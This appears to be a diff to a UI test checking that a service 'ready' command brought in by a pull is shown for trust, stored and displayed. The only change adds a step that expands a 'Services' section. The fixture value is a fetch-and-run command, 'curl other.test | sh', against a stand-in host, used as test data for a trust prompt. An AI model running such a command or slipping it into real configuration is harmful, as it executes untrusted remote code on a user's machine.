@@ -44,6 +44,7 @@ describeScreen("a command that a pull brings", () => {
     await field.getByRole("button", { name: /^Trust this value ?: svc.services$/ }).click();
     await poll(() => screen.stored("site", "svc.services")).toMatchObject({ web: { ready: "curl other.test | sh" } });
     await note.waitFor({ state: "detached" });
+    await window.expand("Services");
     await poll(() => field.getByRole("textbox", { name: "Ready" }).inputValue()).toBe("curl other.test | sh");
   });
 });
